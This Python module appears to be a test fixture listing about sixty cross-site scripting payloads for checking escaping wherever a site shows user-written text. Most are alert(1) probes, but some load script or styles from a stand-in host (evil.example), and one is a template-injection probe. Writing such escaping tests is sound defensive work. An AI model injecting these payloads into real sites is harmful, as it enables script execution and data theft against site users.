"""Sixty ways to get something active into a page, for every place that shows others' words (S9).

Each would open a dialog, or make the browser tell of a breach, if it stood in a page unescaped.
"""

from __future__ import annotations

VECTORS = (
    # elements
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<IMG SRC=`javascript:alert(1)` ONERROR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<table background=//evil.example/x.png><tr><td>x</table>",
    "<custom-element tabindex=1 onfocus=alert(1) autofocus>x</custom-element>",
    # out of what they may stand in
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` autofocus onfocus=alert(1) `",
    '" style="x:expression(alert(1))',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    # addresses
    "javascript:alert(1)",
    " jAvAsCrIpT:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    # Markdown, templates, controls
    "[x](javascript:alert(1))",
    "![x](x\"onerror=\"alert(1))",
    "<https://evil.example/\"onmouseover=\"alert(1)>",
    "{{ ''.__class__ }}{% raw %}<script>alert(1)</script>",
    "\u2028<svg/onload=alert(1)>\0",
)  # fmt: skip
ALL = "\n\n".join(VECTORS)
